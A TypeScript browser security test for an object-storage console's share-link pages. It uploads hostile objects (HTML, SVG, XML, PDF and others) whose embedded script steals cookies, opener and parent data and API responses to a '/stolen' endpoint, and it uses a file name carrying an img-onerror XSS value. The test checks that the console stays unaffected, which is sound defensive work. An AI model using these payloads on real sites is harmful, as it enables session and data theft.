/**
 * What strangers stored is shown to people who trust the page that leads to it. Security rule 21: no script of an object runs in the console's
 * origin, no cookie is within its reach, no page tells another where its reader comes from or asks anybody else.
 */
import type { Browser, BrowserContext, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { launchChromium } from '../support/browser.ts';
import { done as doneByApi, type Json } from '../support/json-api.ts';
import { needs } from '../support/programs.ts';
import { testServer } from '../support/test-server.ts';
import { presigned, send, signed } from '../support/wire-client.ts';

const server = await testServer();
const consoleOrigin = new URL(server.console).origin;
const objectOrigin = new URL(server.s3).origin;
let browser: Browser | undefined;

/** Tells the console address where it runs and what it can read, and tries to get at whoever opened or framed it. */
const SCRIPT = `
const told = (what) => { new Image().src = '${consoleOrigin}/stolen?' + new URLSearchParams({ from: location.origin, ...what }); };
told({ cookie: document.cookie });
try { told({ opener: String(opener && opener.document.title) }); } catch { told({ opener: 'unreachable' }); }
try { told({ parent: String(parent !== window && parent.document.title) }); } catch { told({ parent: 'unreachable' }); }
fetch('${consoleOrigin}/api/v1/links', { credentials: 'include' }).then((answer) => answer.text()).then((text) => told({ text }), () => told({ text: '' }));
`;

const HOSTILE: Readonly<Record<string, readonly [type: string, content: string]>> = {
  'page.html': ['text/html', `<!doctype html><title>x</title><script>${SCRIPT}</script>`],
  'page.xhtml': [
    'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script><![CDATA[${SCRIPT}]]></script></body></html>`,
  ],
  'picture.svg': ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${SCRIPT}]]></script></svg>`],
  'data.xml': ['text/xml', `<?xml version="1.0"?><r><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${SCRIPT}]]></script></r>`],
  'code.js': ['text/javascript', SCRIPT],
  'paper.pdf': [
    'application/pdf',
    `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\("${consoleOrigin}/stolen"\\))>>>>endobj\ntrailer<</Root 1 0 R>>`,
  ],
  'picture.png': ['image/png', `<!doctype html><script>${SCRIPT}</script>`],
  'sound.mp3': ['audio/mpeg', `<script>${SCRIPT}</script>`],
};
/** A name is text, too. */
const MARKUP = `<img src=x onerror="new Image().src=String.fromCharCode(47)+'stolen'">.txt`;

beforeAll(async () => {
  await send(server, signed(server, 'PUT', '/box'));
  for (const [key, [type, body]] of Object.entries({ ...HOSTILE, [MARKUP]: ['text/plain', 'text'] as const }))
    await send(server, signed(server, 'PUT', `/box/${key}`, { body, headers: { 'content-type': type } }));
});
afterAll(async () => {
  await browser?.close();
  await server.close();
});

const landing = (key: string, terms: Json = {}): Promise<Json> =>
  doneByApi(server, 'POST', '/links', { json: { bucket: 'box', key, landing: true, ...terms } });

type Seen = { readonly url: string; readonly headers: Promise<Readonly<Record<string, string>>> };
type Watched = { readonly context: BrowserContext; readonly requests: Seen[] };

/** A browser that holds what the page of a link with a password leaves: a cookie. */
async function watched(): Promise<Watched> {
  browser ??= await launchChromium();
  const context = await browser.newContext();
  const requests: Seen[] = [];
  const page = await context.newPage();
  const guarded = await landing('picture.png', { password: 'open sesame' });
  await page.goto(guarded.landingUrl);
  await page.getByLabel('Password').fill('open sesame');
  await page.getByRole('button').click();
  await page.waitForSelector('h1:has-text("picture.png")');
  expect(await context.cookies()).toMatchObject([{ httpOnly: true, sameSite: 'Lax' }]);
  expect(await page.evaluate(() => document.cookie)).toBe('');
  await page.close();
  context.on('request', (request) => requests.push({ url: request.url(), headers: headersOf(request) }));
  return { context, requests };
}

/** As they are sent; of a request that was given up, as they were to be. */
const headersOf = (request: Request) => request.allHeaders().catch(() => request.headers());

async function expectHarmless({ requests }: Watched): Promise<void> {
  for (const { url: text, headers } of requests) {
    const url = new URL(text);
    if (!['http:', 'https:'].includes(url.protocol)) continue;
    expect([consoleOrigin, objectOrigin]).toContain(url.origin);
    if (url.pathname !== '/stolen') {
      // What an object's own script asks for comes from its own origin; what pages of ours lead to comes from nowhere.
      expect((await headers).referer ?? '').not.toContain(consoleOrigin);
      continue;
    }
    const { from = '', cookie = '', opener, parent, text: read = '' } = Object.fromEntries(url.searchParams);
    expect(from).not.toBe(consoleOrigin);
    expect([cookie, read]).toEqual(['', '']);
    expect(['null', 'unreachable', undefined]).toContain(opener);
    expect(['false', 'unreachable', undefined]).toContain(parent);
  }
}

describe('security 21: an object that means harm', () => {
  for (const key of Object.keys(HOSTILE)) {
    needs('chromium')(`${key}: runs nothing on the page of its link, and reaches nothing from where it is opened`, async () => {
      const at = await watched();
      for (const disposition of ['attachment', 'inline'] as const) {
        const link = await landing(key, { disposition });
        const page = await at.context.newPage();
        await page.goto(link.landingUrl);
        expect(await page.locator('h1').textContent()).toBe(key);
        const leave = page.waitForEvent('download').catch(() => undefined);
        await page.locator('a.button').click();
        await Promise.race([leave, page.waitForURL((url) => url.origin === objectOrigin).catch(() => undefined)]);
        await page.waitForTimeout(300);
        expect(page.url().startsWith(consoleOrigin) ? await page.evaluate(() => document.scripts.length) : 0).toBeLessThanOrEqual(1);
        await page.close();
      }
      await expectHarmless(at);
      // What runs, runs where nothing is to be had: otherwise nothing would have been shown here.
      const ran = at.requests.some(({ url }) => url.startsWith(`${consoleOrigin}/stolen?`));
      expect(ran).toBe(/\.(html|xhtml|svg|xml)$/.test(key));
      await at.context.close();
    });
  }

  needs('chromium')('a page that frames a link shows nothing of it', async () => {
    const at = await watched();
    const link = await landing('picture.png');
    const body = `<!doctype html><title>x</title><iframe src="${link.landingUrl}"></iframe>`;
    await send(server, signed(server, 'PUT', '/box/frame.html', { body, headers: { 'content-type': 'text/html' } }));
    const page = await at.context.newPage();
    await page.goto(`${objectOrigin}${presigned(server, 'GET', '/box/frame.html').target}`);
    await page.waitForTimeout(300);
    const [frame] = page.frames().slice(1);
    expect(await frame?.locator('body').textContent()).not.toContain('picture.png');
    await at.context.close();
  });

  needs('chromium')('names are text, on the page of a file and of a folder', async () => {
    const at = await watched();
    const folder = await doneByApi(server, 'POST', '/links', { json: { bucket: 'box', keyPrefix: '<img', landing: true } });
    for (const { landingUrl } of [await landing(MARKUP), folder]) {
      const page = await at.context.newPage();
      await page.goto(landingUrl);
      expect(await page.locator('img').count()).toBe(0);
      expect(await page.locator('main').textContent()).toContain(MARKUP);
      await page.close();
    }
    expect(at.requests.filter(({ url }) => url.includes('stolen'))).toEqual([]);
    await at.context.close();
  });
});
